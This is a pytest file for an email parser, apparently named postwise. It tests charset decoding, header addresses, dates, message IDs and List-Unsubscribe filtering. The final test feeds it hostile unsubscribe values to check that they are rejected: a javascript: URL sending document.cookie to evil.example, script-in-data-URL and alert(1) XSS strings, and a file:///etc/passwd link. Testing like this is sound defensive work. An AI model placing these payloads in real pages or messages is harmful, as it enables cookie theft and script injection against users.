"""Header and charset decoding: subjects, addresses, dates, ids, body charsets."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from email.utils import format_datetime

import pytest

from postwise.mime.headers import decode_bytes
from postwise.mime.parse import Address, parse_message


@pytest.mark.parametrize(
    ("content_type", "body", "expected"),
    [
        (b"text/plain; charset=x-no-such-charset", "naïve café".encode(), "naïve café"),
        (b"text/plain; charset=us-ascii", "naïve café".encode(), "naïve café"),
        (b"text/plain; charset=utf-8", b"caf\xe9 \x93quoted\x94", "café “quoted”"),
        (b"text/plain; charset=iso-8859-1", b"caf\xe9 \x93q\x94", "café “q”"),
        (b"text/plain", "Grüße".encode("cp1252"), "Grüße"),
        (b"text/plain; charset=zlib", "Grüße".encode(), "Grüße"),
        (b"text/plain; charset=zlib", "Grüße".encode("cp1252"), "Grüße"),
        (b'text/plain; charset="utf-8"', "日本語".encode(), "日本語"),
        (b"text/plain; charset=iso-2022-jp", "日本語".encode("iso-2022-jp"), "日本語"),
        (b"text/plain; charset=gb2312", "中文".encode("gb18030"), "中文"),
        (b"text/plain; charset=shift_jis", "①日本".encode("cp932"), "①日本"),
        (b"text/plain; charset=utf-8", b"ok \x00 nul", "ok  nul"),
    ],
)
def test_broken_and_unusual_charsets(content_type: bytes, body: bytes, expected: str) -> None:
    raw = b"From: a@example.com\r\nContent-Type: " + content_type + b"\r\n"
    raw += b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body + b"\r\n"
    parsed = parse_message(raw)
    assert parsed.parse_error is None
    assert parsed.text.strip() == expected


def test_mostly_utf8_with_a_bad_byte_stays_utf8() -> None:
    text = "Ünïcödé everywhere " * 20
    assert decode_bytes(text.encode() + b"\xff", "utf-8").startswith(text)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (b"Subject: caf\xc3\xa9 au lait", "café au lait"),  # raw UTF-8
        (b"Subject: caf\xe9 au lait", "café au lait"),  # raw Latin-1
        (b"Subject: =?iso-8859-1?q?caf=E9?= =?utf-8?b?IGF1IGxhaXQ=?=", "café au lait"),
        (b"Subject: =?UTF-8?B?8J+Y?= =?UTF-8?B?gA==?= split", "😀 split"),
        (b"Subject: =?x-unknown?q?caf=C3=A9?=", "café"),
        (b"Subject: =?utf-8?q?broken word?=", "broken word"),
        # Malformed and in an unknown charset: the lenient decoder leaves an undecodable byte.
        (b"Subject: =?x-bogus?q?caf=E9 au lait?=", "caf\ufffd au lait"),
        (b"Subject: Re:\r\n   folded\r\n\tline", "Re: folded line"),
        (b"Subject: \x00nul", "nul"),
    ],
)
def test_subject_decoding(header: bytes, expected: str) -> None:
    parsed = parse_message(b"From: a@example.com\r\n" + header + b"\r\n\r\nbody\r\n")
    assert parsed.subject == expected
    parsed.subject.encode("utf-8")  # no lone surrogates


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (b"From: =?utf-8?q?J=C3=B6rg?= <j@example.com>", Address("Jörg", "j@example.com")),
        (b'From: "=?utf-8?q?J=C3=B6rg?=" <j@example.com>', Address("Jörg", "j@example.com")),
        (b"From: J\xc3\xb6rg <j@example.com>", Address("Jörg", "j@example.com")),
        (b"From: j@example.com (Jorg)", Address("Jorg", "j@example.com")),
        (b"From: John Q. Public <jqp@example.com>", Address("John Q. Public", "jqp@example.com")),
        (b'From: "Smith, J \\"JJ\\"" <js@example.com>', Address('Smith, J "JJ"', "js@example.com")),
        (b"From: <@route.example:a@example.com>", Address("", "a@example.com")),
        (b"From:   <a@example.com>  ", Address("", "a@example.com")),
    ],
)
def test_address_forms(header: bytes, expected: Address) -> None:
    parsed = parse_message(header + b"\r\nSubject: x\r\n\r\nbody\r\n")
    assert parsed.from_ == expected
    assert parsed.parse_error is None


def test_address_header_policy_default_cannot_parse_falls_back() -> None:
    # policy.default raises on both values; the raw value is kept rather than lost.
    raw = b"From: Broken <alice@[192.0.2.1>\r\nTo: a@\r\nSubject: x\r\n\r\nbody\r\n"
    parsed = parse_message(raw)
    assert parsed.parse_error is None
    assert parsed.from_ is not None
    assert "alice@" in parsed.from_.address
    assert [a.address for a in parsed.to] == ["a@"]
    assert parsed.text == "body"


def test_names_decoded_by_policy_default_have_no_lone_surrogates() -> None:
    # Malformed (no closing ">"), so policy.default decodes the name, and its unknown charset
    # leaves the byte undecoded; the database needs valid text.
    parsed = parse_message(b"From: =?x-bogus?q?caf=E9 x?= <a@example.com\r\n\r\nbody")
    assert parsed.from_ == Address("caf\ufffd x", "a@example.com")


def test_groups_and_undisclosed_recipients() -> None:
    raw = (
        b"From: a@example.com\r\nTo: undisclosed-recipients:;\r\n"
        b"Cc: Team: b@example.com, C <c@example.com>;\r\n\r\nbody\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.to == []
    assert parsed.cc == [Address("", "b@example.com"), Address("C", "c@example.com")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b"Wed, 01 May 2024 14:30:00 +0200", datetime(2024, 5, 1, 12, 30, tzinfo=UTC)),
        (b"1 May 2024 12:30:00 -0000", datetime(2024, 5, 1, 12, 30, tzinfo=UTC)),
        (b"Wed, 1 May 2024 12:30:00 GMT", datetime(2024, 5, 1, 12, 30, tzinfo=UTC)),
        (b"yesterday at noon", None),
        (b"Wed, 99 Foo 2024 99:99:99 +9999", None),
        (b"", None),
    ],
)
def test_dates(value: bytes, expected: datetime | None) -> None:
    parsed = parse_message(b"From: a@example.com\r\nDate: " + value + b"\r\n\r\nbody\r\n")
    assert parsed.sent_at == expected
    assert parsed.sent_at is None or parsed.sent_at.tzinfo is UTC


def test_undated_zone_means_utc_whatever_the_local_zone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        parsed = parse_message(b"From: a@example.com\r\nDate: 1 May 2024 12:30:00 -0000\r\n\r\nx")
    finally:
        monkeypatch.undo()
        time.tzset()
    assert parsed.sent_at == datetime(2024, 5, 1, 12, 30, tzinfo=UTC)


def test_the_first_of_repeated_headers_counts() -> None:
    raw = (
        b"From: first@example.com\r\nFrom: second@example.com\r\n"
        b"Subject: first\r\nSubject: second\r\n\r\nx\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.from_ == Address("", "first@example.com")
    assert parsed.subject == "first"


def test_message_ids_without_brackets_and_duplicates() -> None:
    raw = (
        b"From: a@example.com\r\nMessage-ID:  abc@example.com \r\n"
        b"In-Reply-To: <x@example.com> (Alice's message of Tuesday)\r\n"
        b"References: <r1@example.com>,<r2@example.com>\r\n <r1@example.com>\r\n\r\nbody\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.message_id == "abc@example.com"
    assert parsed.in_reply_to == "x@example.com"
    assert parsed.references == ["r1@example.com", "r2@example.com"]


def test_long_but_valid_recipient_lists_are_kept() -> None:
    to = b", ".join(b"User %d <u%d@example.com>" % (i, i) for i in range(3000))
    parsed = parse_message(
        b"From: a@example.com\r\nTo: " + to + b", odd (x) <o@example.com>\r\n\r\nx"
    )
    assert len(parsed.to) == 3001
    assert parsed.to[0] == Address("User 0", "u0@example.com")
    assert parsed.to[-1].address == "o@example.com"


def test_sent_at_round_trip_of_generated_date() -> None:
    when = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
    raw = b"From: a@example.com\r\nDate: " + format_datetime(when).encode() + b"\r\n\r\nx\r\n"
    assert parse_message(raw).sent_at == when


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            b"<mailto:leave@example.com>, <https://example.com/u?id=1>",
            "<mailto:leave@example.com>, <https://example.com/u?id=1>",
        ),
        (b"<javascript:fetch('https://evil.example/'+document.cookie)>", None),
        (b"<JavaScript:alert(1)>, <MAILTO:leave@example.com>", "<MAILTO:leave@example.com>"),
        (
            b"<data:text/html,<script>alert(1)</script>>, <http://example.com/u>",
            "<http://example.com/u>",
        ),
        (b"<file:///etc/passwd>, <ftp://example.com/u>, <tel:+1555>", None),
        (b"< https://example.com/\r\n  unsubscribe?a=1 >", "<https://example.com/unsubscribe?a=1>"),
        (b"<java\tscript:alert(1)>, <https:>", None),
        (b"mailto:leave@example.com, javascript:alert(1)", "<mailto:leave@example.com>"),
        (b"(comment) <https://example.com/u> (another)", "<https://example.com/u>"),
        (b"<https://example.com/caf\xc3\xa9>", "<https://example.com/caf\u00e9>"),
        (b"", None),
    ],
)
def test_list_unsubscribe_keeps_only_mail_and_web_targets(
    value: bytes, expected: str | None
) -> None:
    raw = b"From: a@example.com\r\nList-Unsubscribe: " + value + b"\r\n\r\nbody\r\n"
    assert parse_message(raw).list_unsubscribe == expected
